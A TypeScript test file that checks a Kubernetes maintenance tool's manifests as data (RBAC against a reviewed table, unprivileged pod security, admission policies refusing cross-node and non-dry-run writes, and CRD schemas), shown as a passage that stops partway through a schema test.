/**
 * infra/k8s checked as data: every YAML parses, the kustomization lists every manifest, the RBAC
 * matches a reviewed table exactly (a new verb is a deliberate edit here, in review), the agent
 * DaemonSet is unprivileged, the namespace's Pod Security level is explicit, kubemaint's kinds are
 * what the codec writes (ADR 0012), the admission policies target the right identities and refuse
 * what they exist to refuse (judged with the sim's CEL), people get a role to bind and no more, and
 * `kubectl kustomize` renders the whole thing.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFileSync, readdirSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { parseAllDocuments } from 'yaml';
import {
  DECISIONS,
  GROUP,
  REQUESTS,
  VERSION,
  encodeDecision,
  encodeRequest,
} from '../../../src/adapters/kube/request-codec.js';
import {
  ANN_REBOOT_REQUIRED_PACKAGES,
  ANN_REBOOT_REQUIRED_REPORTER,
  ANN_REBOOT_REQUIRED_SINCE,
  ANN_SHUTDOWN_GRACE_PERIOD,
  ANN_SHUTDOWN_GRACE_PERIOD_CRITICAL,
  ANN_SHUTDOWN_GRACE_PERIOD_SOURCE,
  ANN_SHUTDOWN_GRACE_PERIOD_BY_POD_PRIORITY,
  ANN_REQUEST,
  LABEL_REBOOT_REQUIRED,
  LABEL_STATE,
} from '../../../src/core/names.js';
import {
  ACTIVE_STATES,
  DECISION_KINDS,
  FINAL_STATES,
  type MaintenanceRequest,
} from '../../../src/core/request.js';
import { compile } from '@kubemaint/kubesim/cel';
import { buildExecutorJob, type ExecutorJobParams } from '../../../templates/executor-job.js';
import { approvedRequest } from '../../fakes/requests.js';
import { judge, type AdmissionCase, type PolicySpec } from '../../support/admission-policy.js';

const DIR = resolve(import.meta.dirname, '../../../infra/k8s');
const SCRIPT = resolve(import.meta.dirname, '../../../infra/agent/kubemaint-agent.sh');
const NS = 'kubemaint';

interface Doc {
  apiVersion: string;
  kind: string;
  metadata: { name: string; namespace?: string; labels?: Record<string, string> };
  [field: string]: unknown;
}

function load(file: string): Doc[] {
  const docs = parseAllDocuments(readFileSync(join(DIR, file), 'utf8'));
  return docs.map((d) => {
    assert.deepEqual(d.errors, [], `${file}: ${d.errors.map((e) => e.message).join('; ')}`);
    return d.toJS() as Doc;
  });
}

const files = readdirSync(DIR).filter((f) => f.endsWith('.yaml') && f !== 'kustomization.yaml');
const all = files.flatMap((f) => load(f).map((doc) => ({ file: f, doc })));
const find = (kind: string, name: string, namespace?: string) =>
  all.find(
    ({ doc }) =>
      doc.kind === kind && doc.metadata.name === name && doc.metadata.namespace === namespace,
  )?.doc;

describe('infra/k8s manifests', () => {
  it('parse, and each document names its apiVersion, kind and metadata.name', () => {
    assert.ok(all.length >= 15);
    for (const { file, doc } of all) {
      assert.ok(
        doc.apiVersion && doc.kind && doc.metadata?.name,
        `${file}: ${JSON.stringify(doc).slice(0, 80)}`,
      );
    }
  });

  it('are all listed in kustomization.yaml, and it lists nothing else', () => {
    const [kustomization] = load('kustomization.yaml') as unknown as [{ resources: string[] }];
    assert.deepEqual([...kustomization.resources].sort(), [...files].sort());
  });
});

/**
 * [subject, scope ('cluster' or a namespace), apiGroup, resource, verbs] — reviewed. A subject is a
 * service account's name or `group:<name>`; a rule narrowed by resourceNames is `<resource>[<name>]`.
 */
type Grant = [string, string, string, string, string];
/** The Lambda functions' role, mapped to this group by its EKS access entry (docs/deploy-lambda.md). */
const CONTROL_PLANE_GROUP = 'group:kubemaint:control-plane';
const REVIEWED_WITHOUT_LAMBDA: Grant[] = [
  ['kubemaint-agent', 'cluster', '', 'nodes', 'get,patch'],
  // Its kubelet's /configz (the shutdown grace period, ADR 0049); not nodes/proxy.
  ['kubemaint-agent', 'cluster', '', 'nodes/configz', 'get'],
  ['kubemaint-executor', 'cluster', '', 'nodes', 'get,patch'],
  // Its maintenance conditions (ADR 0041), narrowed by admission-policy.yaml to those alone.
  ['kubemaint-executor', 'cluster', '', 'nodes/status', 'patch'],
  ['kubemaint-executor', 'cluster', '', 'pods', 'delete,list,watch'],
  ['kubemaint-executor', 'cluster', '', 'pods/eviction', 'create'],
  // Which pods one PDB guards: the drain sends their evictions one at a time (ADR 0061).
  ['kubemaint-executor', 'cluster', 'policy', 'poddisruptionbudgets', 'list'],
  ['kubemaint-executor', 'default', '', 'events', 'create'],
  ['kubemaint-executor', NS, 'coordination.k8s.io', 'leases', 'create,get,update'],
  // ADR 0012: its own request, read by name; its status, narrowed by admission-requests.yaml.
  ['kubemaint-executor', NS, 'kubemaint.io', 'maintenancerequests', 'get'],
  ['kubemaint-executor', NS, 'kubemaint.io', 'maintenancerequests/status', 'update'],
  ['kubemaint-serve', 'cluster', '', 'nodes', 'get,list,patch,watch'],
  ['kubemaint-serve', 'cluster', '', 'nodes/status', 'patch'],
  ['kubemaint-serve', 'cluster', '', 'pods', 'list'],
  ['kubemaint-serve', 'cluster', '', 'pods/eviction', 'create'],
  ['kubemaint-serve', 'cluster', 'policy', 'poddisruptionbudgets', 'list,watch'],
  // ADR 0051: the storage-version migration reads kubemaint's two CRDs and trims storedVersions.
  ...['maintenancerequests', 'maintenanceapprovals'].flatMap((plural): Grant[] => [
    [
      'kubemaint-serve',
      'cluster',
      'apiextensions.k8s.io',
      `customresourcedefinitions[${plural}.kubemaint.io]`,
      'get',
    ],
    [
      'kubemaint-serve',
      'cluster',
      'apiextensions.k8s.io',
      `customresourcedefinitions/status[${plural}.kubemaint.io]`,
      'patch',
    ],
  ]),
  ['kubemaint-serve', 'default', '', 'events', 'create,patch'],
  // Every apiserver's version (ADR 0050): identity Leases and the kubernetes Service's addresses.
  ['kubemaint-serve', 'kube-system', 'coordination.k8s.io', 'leases', 'list'],
  ['kubemaint-serve', 'default', 'discovery.k8s.io', 'endpointslices', 'list'],
  ['kubemaint-serve', NS, 'batch', 'jobs', 'create,delete,get,list,watch'],
  ['kubemaint-serve', NS, 'coordination.k8s.io', 'leases', 'create,delete,get,list,update,watch'],
  // The pause switch: updates by name; a create cannot be named (admission-requests.yaml does it).
  ['kubemaint-serve', NS, '', 'configmaps', 'create'],
  // Watched by name, so `resume` wakes serve at once.
  ['kubemaint-serve', NS, '', 'configmaps[kubemaint-pause]', 'get,list,update,watch'],
  // The durations it observed (ADR 0017), also by name.
  ['kubemaint-serve', NS, '', 'configmaps[kubemaint-durations]', 'get,update'],
  // The agents' settings from kubemaint.yaml (ADR 0022), also by name.
  ['kubemaint-serve', NS, '', 'configmaps[kubemaint-agent]', 'get,update'],
  // The summaries retention keeps of the requests it deletes (ADR 0043), also by name.
  ['kubemaint-serve', NS, '', 'configmaps[kubemaint-history]', 'get,update'],
  // ADR 0012: the control plane records requests and decisions and alone writes request status;
  // ADR 0043: it patches their phase label and deletes ended ones.
  [
    'kubemaint-serve',
    NS,
    'kubemaint.io',
    'maintenancerequests',
    'create,delete,get,list,patch,watch',
  ],
  ['kubemaint-serve', NS, 'kubemaint.io', 'maintenancerequests/status', 'get,update'],
  // ADR 0051: patch, the storage-version migration's no-op rewrite (the spec stays immutable).
  [
    'kubemaint-serve',
    NS,
    'kubemaint.io',
    'maintenanceapprovals',
    'create,delete,get,list,patch,watch',
  ],
];
/** The control plane is serve or the Lambda functions: the group gets exactly what serve gets. */
const REVIEWED: Grant[] = [
  ...REVIEWED_WITHOUT_LAMBDA,
  ...REVIEWED_WITHOUT_LAMBDA.filter((g) => g[0] === 'kubemaint-serve').map(([, ...rest]): Grant => [
    CONTROL_PLANE_GROUP,
    ...rest,
  ]),
];

interface Rule {
  apiGroups: string[];
  resources: string[];
  verbs: string[];
  resourceNames?: string[];
}
interface Binding extends Doc {
  roleRef: { kind: string; name: string };
  subjects: { kind: string; name: string; namespace?: string; apiGroup?: string }[];
}

/** What the manifests actually grant, one row per (account, scope, group, resource). */
function effectiveGrants(): Grant[] {
  const rows = new Map<string, Set<string>>();
  for (const { doc } of all) {
    if (doc.kind !== 'RoleBinding' && doc.kind !== 'ClusterRoleBinding') continue;
    const binding = doc as Binding;
    const scope = doc.kind === 'RoleBinding' ? doc.metadata.namespace! : 'cluster';
    const role = find(
      binding.roleRef.kind,
      binding.roleRef.name,
      binding.roleRef.kind === 'Role' ? scope : undefined,
    );
    assert.ok(
      role,
      `${doc.metadata.name} refers to a missing ${binding.roleRef.kind} ${binding.roleRef.name}`,
    );
    for (const subject of binding.subjects) {
      let who: string;
      if (subject.kind === 'Group') {
        // The only group bound anywhere: the control plane's Lambda functions.
        who = `group:${subject.name}`;
        assert.equal(who, CONTROL_PLANE_GROUP);
        assert.equal(subject.apiGroup, 'rbac.authorization.k8s.io');
      } else {
        assert.equal(subject.kind, 'ServiceAccount');
        assert.equal(subject.namespace, NS);
        assert.ok(
          find('ServiceAccount', subject.name, NS),
          `service account ${subject.name} is not defined`,
        );
        who = subject.name;
      }
      for (const rule of (role.rules as Rule[] | undefined) ?? []) {
        assert.notDeepEqual(rule.resourceNames, [], 'resourceNames, when given, name something');
        const names = rule.resourceNames ?? [undefined];
        for (const group of rule.apiGroups) {
          for (const [resource, name] of rule.resources.flatMap((r) => names.map((n) => [r, n]))) {
            assert.notEqual(resource, '*', 'no wildcard resources');
            const key = [who, scope, group, name ? `${resource}[${name}]` : resource].join('|');
            const verbs = rows.get(key) ?? new Set<string>();
            for (const verb of rule.verbs) verbs.add(verb);
            rows.set(key, verbs);
          }
        }
      }
    }
  }
  return [...rows].map(([key, verbs]) => [...key.split('|'), [...verbs].sort().join(',')] as Grant);
}

describe('RBAC', () => {
  const grants = effectiveGrants();
  const byKey = (g: Grant) => g.slice(0, 4).join(' ');
  for (const expected of REVIEWED) {
    it(`${expected[0]} may ${expected[4]} ${expected[3]} (${expected[2] || 'core'}) in ${expected[1]}`, () => {
      const actual = grants.find((g) => byKey(g) === byKey(expected));
      assert.deepEqual(actual, expected);
    });
  }
  it('grants nothing beyond the reviewed table', () => {
    const reviewed = new Set(REVIEWED.map(byKey));
    assert.deepEqual(
      grants.filter((g) => !reviewed.has(byKey(g))),
      [],
    );
  });
  it('never grants a wildcard verb or escalation', () => {
    for (const g of grants) {
      for (const verb of g[4].split(',')) {
        assert.ok(!['*', 'escalate', 'bind', 'impersonate'].includes(verb), `${byKey(g)}: ${verb}`);
      }
    }
  });
});

interface Container {
  name: string;
  image: string;
  env?: { name: string; value?: string; valueFrom?: { fieldRef?: { fieldPath: string } } }[];
  securityContext: Record<string, unknown>;
  resources: { requests: Record<string, string>; limits: Record<string, string> };
  volumeMounts: { name: string; mountPath: string; readOnly?: boolean }[];
}
interface PodSpec {
  serviceAccountName: string;
  hostPID?: boolean;
  hostNetwork?: boolean;
  tolerations: { operator: string; key?: string }[];
  securityContext: Record<string, unknown>;
  containers: Container[];
  volumes: { name: string; hostPath?: { path: string } }[];
}

describe('the agent DaemonSet', () => {
  const ds = find('DaemonSet', 'kubemaint-agent', NS) as Doc & {
    spec: { template: { spec: PodSpec } };
  };
  const pod = ds.spec.template.spec;
  const [container] = pod.containers;

  it('runs as the agent service account, on every node whatever its taints', () => {
    assert.equal(pod.serviceAccountName, 'kubemaint-agent');
    assert.deepEqual(pod.tolerations, [{ operator: 'Exists' }]);
    assert.equal(pod.containers.length, 1);
  });
  it('is unprivileged: non-root, no privilege escalation, no capabilities, read-only root', () => {
    assert.equal(pod.hostPID ?? false, false);
    assert.equal(pod.hostNetwork ?? false, false);
    assert.equal(pod.securityContext.runAsNonRoot, true);
    assert.deepEqual(pod.securityContext.seccompProfile, { type: 'RuntimeDefault' });
    assert.deepEqual(container!.securityContext, {
      privileged: false,
      allowPrivilegeEscalation: false,
      readOnlyRootFilesystem: true,
      capabilities: { drop: ['ALL'] },
    });
  });
  it("mounts only the host's /var/run and the kubelet's config file, read-only, under HOST_ROOT, and its settings", () => {
    assert.deepEqual(pod.volumes, [
      { name: 'host-var-run', hostPath: { path: '/var/run', type: 'Directory' } },
      { name: 'settings', configMap: { name: 'kubemaint-agent', optional: true } },
      // The one file, never /var/lib/kubelet (other pods' volumes and secrets); FileOrCreate so a
      // node whose kubelet reads its config elsewhere still runs the agent (ADR 0049).
      {
        name: 'kubelet-config',
        hostPath: { path: '/var/lib/kubelet/config.yaml', type: 'FileOrCreate' },
      },
    ]);
    const hostRoot = container!.env?.find((e) => e.name === 'HOST_ROOT')?.value;
    assert.deepEqual(container!.volumeMounts, [
      { name: 'host-var-run', mountPath: `${hostRoot}/var/run`, readOnly: true },
      { name: 'settings', mountPath: '/etc/kubemaint-agent', readOnly: true },
      // Where the agent reads it by default: $HOST_ROOT/var/lib/kubelet/config.yaml.
      {
        name: 'kubelet-config',
        mountPath: `${hostRoot}/var/lib/kubelet/config.yaml`,
        readOnly: true,
      },
    ]);
    assert.ok(!container!.env?.some((e) => e.name === 'KUBELET_CONFIG_FILE'));
    assert.match(
      readFileSync(SCRIPT, 'utf8'),
      /KUBELET_CONFIG_FILE=\$\{KUBELET_CONFIG_FILE:-\$HOST_ROOT\/var\/lib\/kubelet\/config\.yaml\}/,
    );
  });
  it("leaves kubemaint.yaml's agent settings to kubemaint.yaml: no env sets them", () => {
    const names = (container!.env ?? []).map((e) => e.name);
    for (const name of ['SENTINEL_FILE', 'PERIOD_SECONDS', 'JITTER_SECONDS'])
      assert.ok(!names.includes(name), name);
  });
  it('learns its node from the downward API', () => {
    const node = container!.env?.find((e) => e.name === 'NODE_NAME');
    assert.equal(node?.valueFrom?.fieldRef?.fieldPath, 'spec.nodeName');
  });
  it('asks for little and is capped', () => {
    assert.deepEqual(container!.resources, {
      requests: { cpu: '5m', memory: '16Mi' },
      limits: { cpu: '50m', memory: '32Mi' },
    });
  });
});

interface ServeContainer extends Container {
  args: string[];
  envFrom: { secretRef?: { name: string } }[];
  ports: { name: string; containerPort: number }[];
  livenessProbe: { httpGet: { path: string; port: string } };
  readinessProbe: { httpGet: { path: string; port: string } };
}

describe('the serve Deployment', () => {
  const deployment = find('Deployment', 'kubemaint-serve', NS) as Doc & {
    spec: {
      replicas: number;
      strategy: { type: string };
      template: {
        spec: Omit<PodSpec, 'volumes'> & {
          terminationGracePeriodSeconds: number;
          volumes: {
            name: string;
            hostPath?: object;
            configMap?: { name: string };
            emptyDir?: object;
          }[];
        };
      };
    };
  };
  const pod = deployment.spec.template.spec;
  const container = pod.containers[0] as ServeContainer;

  it('runs two replicas of `serve` on different nodes where it can, as the serve service account', () => {
    // Leader election (ADR 0046): one acts, the other stands by, so a rolling update is safe.
    assert.equal(deployment.spec.replicas, 2);
    assert.equal(deployment.spec.strategy.type, 'RollingUpdate');
    const anti = (
      (pod as { affinity?: unknown }).affinity as
        | {
            podAntiAffinity?: {
              preferredDuringSchedulingIgnoredDuringExecution?: {
                podAffinityTerm: {
                  topologyKey: string;
                  labelSelector: { matchLabels: Record<string, string> };
                };
              }[];
            };
          }
        | undefined
    )?.podAntiAffinity?.preferredDuringSchedulingIgnoredDuringExecution?.[0]?.podAffinityTerm;
    assert.equal(anti?.topologyKey, 'kubernetes.io/hostname');
    assert.deepEqual(anti?.labelSelector.matchLabels, {
      'app.kubernetes.io/name': 'kubemaint-serve',
    });
    const podName = container.env?.find((e) => e.name === 'POD_NAME') as
      { valueFrom?: { fieldRef?: { fieldPath?: string } } } | undefined;
    assert.equal(podName?.valueFrom?.fieldRef?.fieldPath, 'metadata.name');
    // Where a standby relays a Slack request while this replica leads (ADR 0054).
    const podIp = container.env?.find((e) => e.name === 'POD_IP') as
      { valueFrom?: { fieldRef?: { fieldPath?: string } } } | undefined;
    assert.equal(podIp?.valueFrom?.fieldRef?.fieldPath, 'status.podIP');
    assert.equal(pod.serviceAccountName, 'kubemaint-serve');
    assert.equal(pod.containers.length, 1);
    // The pod IP is what the kubelet probes and the ingress reaches: every interface, said openly.
    assert.deepEqual(container.args, ['serve', '--ops-host=0.0.0.0', '--slack-host=0.0.0.0']);
    assert.match(container.image, /^ghcr\.io\/kubemaint\/kubemaint:/);
  });
  it('a PodDisruptionBudget lets a drain evict one replica at a time', () => {
    const pdb = find('PodDisruptionBudget', 'kubemaint-serve', NS) as Doc & {
      spec: { maxUnavailable: number; selector: { matchLabels: Record<string, string> } };
    };
    assert.equal(pdb.spec.maxUnavailable, 1);
    assert.deepEqual(pdb.spec.selector.matchLabels, {
      'app.kubernetes.io/name': 'kubemaint-serve',
    });
  });
  it('takes Slack secrets from a Secret and the config from a ConfigMap at /etc/kubemaint', () => {
    assert.deepEqual(container.envFrom, [{ secretRef: { name: 'kubemaint-slack' } }]);
    const config = container.env?.find((e) => e.name === 'KUBEMAINT_CONFIG')?.value;
    assert.equal(config, '/etc/kubemaint/kubemaint.yaml');
    const mount = container.volumeMounts.find((m) => m.mountPath === '/etc/kubemaint');
    assert.equal(mount?.readOnly, true);
    const volume = pod.volumes.find((v) => v.name === mount?.name);
    assert.deepEqual(volume?.configMap, { name: 'kubemaint-config' });
  });
  it('serves Slack on 3000 and ops on 9090, probed at /healthz and /readyz', () => {
    assert.deepEqual(
      container.ports.map((p) => [p.name, p.containerPort]),
      [
        ['slack', 3000],
        ['ops', 9090],
      ],
    );
    assert.deepEqual(container.livenessProbe.httpGet, { path: '/healthz', port: 'ops' });
    assert.deepEqual(container.readinessProbe.httpGet, { path: '/readyz', port: 'ops' });
  });
  it('is unprivileged: non-root, no escalation, no capabilities, read-only root, bounded', () => {
    assert.equal(pod.securityContext.runAsNonRoot, true);
    assert.deepEqual(pod.securityContext.seccompProfile, { type: 'RuntimeDefault' });
    assert.equal(pod.hostPID ?? false, false);
    assert.equal(pod.hostNetwork ?? false, false);
    assert.deepEqual(container.securityContext, {
      privileged: false,
      allowPrivilegeEscalation: false,
      readOnlyRootFilesystem: true,
      capabilities: { drop: ['ALL'] },
    });
    assert.ok(container.resources.requests.memory && container.resources.limits.memory);
    assert.ok(container.resources.requests.cpu && container.resources.limits.cpu);
    assert.ok(
      pod.volumes.every((v) => !v.hostPath),
      'no host paths',
    );
  });
  it('gives a tick in progress time to finish on shutdown', () => {
    assert.ok(pod.terminationGracePeriodSeconds >= 60, String(pod.terminationGracePeriodSeconds));
  });
});

const AGENT = 'system:serviceaccount:kubemaint:kubemaint-agent';
const SERVE = 'system:serviceaccount:kubemaint:kubemaint-serve';
const EXECUTOR = 'system:serviceaccount:kubemaint:kubemaint-executor';
const CONTROL_PLANE = 'kubemaint:control-plane';
const NODE_CLAIM = 'authentication.kubernetes.io/node-name';
/** The Lambda functions, as their EKS access entry maps them. */
const LAMBDA = {
  username: 'arn:aws:sts::1:assumed-role/kubemaint-tick',
  groups: [CONTROL_PLANE],
};

interface Policy extends Doc {
  spec: PolicySpec & { failurePolicy: string };
}
const policy = (name: string): Policy => {
  const found = find('ValidatingAdmissionPolicy', name) as Policy | undefined;
  assert.ok(found, `no ValidatingAdmissionPolicy ${name}`);
  return found;
};
/** The policy's refusals of a request it must judge (a skipped policy is a test bug here). */
function denied(p: Policy, c: AdmissionCase): string[] {
  const verdict = judge(p.spec, c);
  assert.notEqual(
    verdict,
    'skipped',
    `${p.metadata.name} did not judge ${c.operation} ${c.resource}`,
  );
  return verdict as string[];
}

describe('the namespace and the admission policies', () => {
  it('declares the Pod Security level the executor needs (privileged) explicitly', () => {
    const ns = find('Namespace', NS);
    assert.equal(ns?.metadata.labels?.['pod-security.kubernetes.io/enforce'], 'privileged');
  });

  const agentPolicy = policy('kubemaint-agent-own-node-only');
  const servePolicy = policy('kubemaint-serve-dry-run-evictions-only');

  it('bind each policy with Deny', () => {
    const policies = all.filter(({ doc }) => doc.kind === 'ValidatingAdmissionPolicy');
    assert.deepEqual(policies.map(({ doc }) => doc.metadata.name).sort(), [
      'kubemaint-agent-own-node-only',
      'kubemaint-control-plane-configmaps',
      'kubemaint-control-plane-node-writes',
      'kubemaint-decisions-name-their-author',
      'kubemaint-hook-jobs',
      'kubemaint-jobs-of-the-executors-shape',
      'kubemaint-node-status-maintenance-conditions-only',
      'kubemaint-request-status-by-control-plane',
      'kubemaint-requests-name-their-requester',
      'kubemaint-serve-dry-run-evictions-only',
    ]);
    for (const { doc } of policies) {
      const p = doc as Policy;
      const binding = find('ValidatingAdmissionPolicyBinding', p.metadata.name) as Doc & {
        spec: { policyName: string; validationActions: string[] };
      };
      assert.equal(binding.spec.policyName, p.metadata.name);
      assert.deepEqual(binding.spec.validationActions, ['Deny']);
      assert.equal(p.apiVersion, 'admissionregistration.k8s.io/v1');
      assert.equal(p.spec.failurePolicy, 'Fail');
    }
  });
  it('hold the agent to its own node and to its own keys', () => {
    assert.deepEqual(agentPolicy.spec.matchConstraints.resourceRules[0]!.resources, [
      'nodes',
      'nodes/status',
    ]);
    assert.match(
      agentPolicy.spec.matchConditions![0]!.expression,
      /system:serviceaccount:kubemaint:kubemaint-agent'$/,
    );
    const cel = JSON.stringify(agentPolicy.spec);
    assert.match(
      cel,
      /request\.userInfo\.extra\['authentication\.kubernetes\.io\/node-name'\]\[0\]/,
    );
    assert.match(cel, /request\.name == variables\.nodeName/);
    assert.match(cel, /object\.spec == oldObject\.spec/);
    // Its own keys are exactly the reboot mark (ADR 0012) and its kubelet's shutdown grace period
    // (ADR 0049): not the state mirror, not the old request annotation, nothing else under kubemaint.io/.
    const own = (name: string) =>
      compile(agentPolicy.spec.variables!.find((v) => v.name === name)!.expression, []).evaluate(
        {},
      );
    assert.deepEqual(own('ownLabels'), [LABEL_REBOOT_REQUIRED]);
    assert.deepEqual(own('ownAnnotations'), [
      ANN_REBOOT_REQUIRED_SINCE,
      ANN_REBOOT_REQUIRED_PACKAGES,
      ANN_REBOOT_REQUIRED_REPORTER,
      ANN_SHUTDOWN_GRACE_PERIOD,
      ANN_SHUTDOWN_GRACE_PERIOD_CRITICAL,
      ANN_SHUTDOWN_GRACE_PERIOD_SOURCE,
      ANN_SHUTDOWN_GRACE_PERIOD_BY_POD_PRIORITY,
    ]);

    const onN1 = { username: AGENT, extra: { [NODE_CLAIM]: ['n1'] } };
    const node = (labels: Record<string, string>, annotations: Record<string, string> = {}) => ({
      metadata: { name: 'n1', labels, annotations },
      spec: { podCIDR: '10.0.0.0/24' },
    });
    const before = node({ [LABEL_STATE]: 'running', 'kubernetes.io/os': 'linux' });
    const patch = (
      object: unknown,
      user: AdmissionCase['user'] = onN1,
      resource = 'nodes',
    ): string[] =>
      denied(agentPolicy, {
        operation: 'UPDATE',
        group: '',
        resource,
        name: 'n1',
        user,
        object,
        oldObject: before,
      });
    const marked = node(
      { ...before.metadata.labels, [LABEL_REBOOT_REQUIRED]: 'true' },
      {
        [ANN_REBOOT_REQUIRED_SINCE]: '2026-11-22T01:00:00Z',
        [ANN_REBOOT_REQUIRED_REPORTER]: 'agent',
      },
    );
    assert.deepEqual(patch(marked), []);
    assert.match(
      patch(node({ ...before.metadata.labels, [LABEL_STATE]: 'done' })).join(),
      /may only change the kubemaint\.io\/reboot-required label/,
    );
    assert.match(
      patch(node({ 'kubernetes.io/os': 'linux' })).join(),
      /may only change the kubemaint\.io\/reboot-required label/,
      'nor remove the state mirror',
    );
    assert.match(
      patch(node(before.metadata.labels, { [ANN_REQUEST]: '{"id":"r-forged"}' })).join(),
      /may only change its own annotations/,
    );
    assert.match(
      patch(marked, { username: AGENT, extra: { [NODE_CLAIM]: ['n2'] } }).join(),
      /the kubemaint agent on n2 may not change node n1/,
    );
    // A pod-bound token from before 1.30 has the pod's claims but not the node's.
    const podOnly = { username: AGENT, extra: { 'authentication.kubernetes.io/pod-name': ['a'] } };
    assert.match(patch(marked, podOnly).join(), /node-name claim/);
    // A token with no claims at all (no extra): the policy fails to evaluate, which Fail denies.
    assert.notDeepEqual(patch(marked, { username: AGENT }), []);
    assert.match(patch(marked, onN1, 'nodes/status').join(), /no create, delete or status writes/);
    assert.match(
      patch({ ...marked, spec: { ...marked.spec, unschedulable: true } }).join(),
      /may not change a Node's spec/,
    );
    assert.equal(
      judge(agentPolicy.spec, {
        operation: 'UPDATE',
        group: '',
        resource: 'nodes',
        name: 'n1',
        user: { username: SERVE },
        object: node({ [LABEL_STATE]: 'done' }),
        oldObject: before,
      }),
      'skipped',
    );
  });
  it('let the control plane (serve, the Lambda group) send only dry-run evictions', () => {
    assert.deepEqual(servePolicy.spec.matchConstraints.resourceRules[0]!.resources, [
      'pods/eviction',
    ]);
    assert.match(servePolicy.spec.matchConditions![0]!.expression, /kubemaint:kubemaint-serve'/);
    assert.deepEqual(
      servePolicy.spec.validations.map((v) => v.expression),
      ['request.dryRun == true'],
    );
    const evict = (user: AdmissionCase['user'], dryRun: boolean) =>
      judge(servePolicy.spec, {
        operation: 'CREATE',
        group: '',
        resource: 'pods/eviction',
        name: 'web-1',
        namespace: 'default',
        user,
        dryRun,
        object: { metadata: { name: 'web-1', namespace: 'default' } },
      });
    for (const user of [{ username: SERVE }, LAMBDA]) {
      assert.deepEqual(evict(user, true), [], user.username);
      assert.match(String(evict(user, false)), /may only send dry-run evictions/, user.username);
    }
    assert.equal(evict({ username: EXECUTOR }, false), 'skipped', 'the executor drains');
  });
});

describe("kubemaint's kinds (crds.yaml)", () => {
  interface Schema {
    type?: string;
    required?: string[];
    enum?: string[];
    properties?: Record<string, Schema>;
    items?: Schema;
    'x-kubernetes-preserve-unknown-fields'?: boolean;
    'x-kubernetes-validations'?: { rule: string; message: string }[];
  }
  interface Crd extends Doc {
    spec: {
      group: string;
      scope: string;
      names: Record<string, unknown>;
      conversion?: Record<string, unknown>;
      versions: {
        name: string;
        served: boolean;
        storage: boolean;
        deprecated?: boolean;
        deprecationWarning?: string;
        subresources?: Record<string, unknown>;
        additionalPrinterColumns: { name: string; jsonPath: string; priority?: number }[];
        schema: { openAPIV3Schema: Schema };
      }[];
    };
  }
  const requests = find('CustomResourceDefinition', `${REQUESTS}.${GROUP}`) as Crd;
  const approvals = find('CustomResourceDefinition', `${DECISIONS}.${GROUP}`) as Crd;
  const columns = (crd: Crd) =>
    crd.spec.versions[0]!.additionalPrinterColumns.map((c) => [
      c.name,
      c.jsonPath,
      c.priority ?? 0,
    ]);
  const schema = (crd: Crd) => crd.spec.versions[0]!.schema.openAPIV3Schema;

  /** The paths a structural schema prunes from `value`, as the apiserver does before storing it. */
  function pruned(s: Schema, value: unknown, path: string): string[] {
    if (s['x-kubernetes-preserve-unknown-fields'] || value === null) return [];
    if (Array.isArray(value))
      return s.items ? value.flatMap((v, i) => pruned(s.items!, v, `${path}[${i}]`)) : [];
    if (typeof value !== 'object' || !s.properties) return [];
    return Object.entries(value).flatMap(([k, v]) => {
      const child = s.properties![k];
      return child ? pruned(child, v, `${path}.${k}`) : [`${path}.${k}`];
    });
  }

  it('name a namespaced MaintenanceRequest (mr) and MaintenanceApproval (mra) in kubemaint.io/v1beta1', () => {
    for (const [crd, kind, plural, short] of [
      [requests, 'MaintenanceRequest', REQUESTS, 'mr'],
      [approvals, 'MaintenanceApproval', DECISIONS, 'mra'],
    ] as const) {
      assert.ok(crd, `no CRD for ${plural}`);
      assert.equal(crd.apiVersion, 'apiextensions.k8s.io/v1');
      assert.equal(crd.spec.group, GROUP);
      assert.equal(crd.spec.scope, 'Namespaced');
      assert.deepEqual(crd.spec.names, {
        kind,
        listKind: `${kind}List`,
        plural,
        singular: kind.toLowerCase(),
        shortNames: [short],
        categories: ['kubemaint'],
      });
      assert.deepEqual(
        crd.spec.versions.map((v) => [v.name, v.served, v.storage, v.deprecated ?? false]),
        [
          [VERSION, true, true, false],
          ['v1alpha1', true, false, true],
        ],
      );
    }
  });
  it('serve v1alpha1 deprecated, with the same schema as v1beta1 and no conversion webhook (ADR 0051)', () => {
    assert.equal(VERSION, 'v1beta1');
    for (const crd of [requests, approvals]) {
      assert.deepEqual(crd.spec.conversion, { strategy: 'None' });
      const [beta, alpha] = crd.spec.versions;
      // Strategy None relabels apiVersion and nothing else: any schema drift would change what an
      // object means depending on the version it is read at.
      const { name: _b, storage: _bs, ...betaRest } = beta!;
      const { name: _a, storage: _as, deprecated: _d, deprecationWarning, ...alphaRest } = alpha!;
      assert.deepEqual(alphaRest, betaRest);
      assert.match(
        deprecationWarning ?? '',
        /kubemaint\.io\/v1alpha1 .* is deprecated; use kubemaint\.io\/v1beta1/,
      );
    }
  });
  it('give a request a status subresource, and a decision none (it never changes)', () => {
    assert.deepEqual(requests.spec.versions[0]!.subresources, { status: {} });
    assert.equal(approvals.spec.versions[0]!.subresources, undefined);
  });
  it('show node, action, state and approvals for `kubectl get mr`, who and why with -o wide', () => {
    assert.deepEqual(columns(requests), [
      ['Node', '.spec.node', 0],
      ['Action', '.spec.action', 0],
      ['State', '.status.state', 0],
      ['Approvals', '.status.approvedBy', 0],
      ['Requested-By', '.spec.requestedBy', 1],
      ['Reason', '.spec.reason', 1],
      ['Age', '.metadata.creationTimestamp', 0],
    ]);
    assert.deepEqual(columns(approvals), [
      ['Request', '.spec.request', 0],
      ['Approver', '.spec.approver', 0],
      ['Decision', '.spec.decision', 0],
      ['Age', '.metadata.creationTimestamp', 0],
    ]);
  });
  it('make both specs immutable and require what was asked', () => {
    for (const crd of [requests, approvals]) {
      const spec = schema(crd).properties!['spec']!;
      assert.deepEqual(schema(crd).required, ['spec']);
      assert.deepEqual(
        spec['x-kubernetes-validations']?.map((v) => v.rule),
        ['self == oldSelf'],
      );
    }
    assert.deepEqual(schema(requests).properties!['spec']!.required, [
      'node',
      'action',
      'requestedBy',
    ]);
    assert.deepEqual(schema(approvals).properties!['spec']!.required, [
      'request',
      'approver',
      'decision',
    ]);
  });
  it('allow exactly the core states, actions and decision kinds', () => {
    const request = schema(requests).properties!;
    assert.deepEqual(request['status']!.properties!['state']!.enum, [
      ...ACTIVE_STATES,
      ...FINAL_STATES,
    ]);
    assert.deepEqual(request['spec']!.properties!['action']!.enum, ['reboot', 'upgrade']);
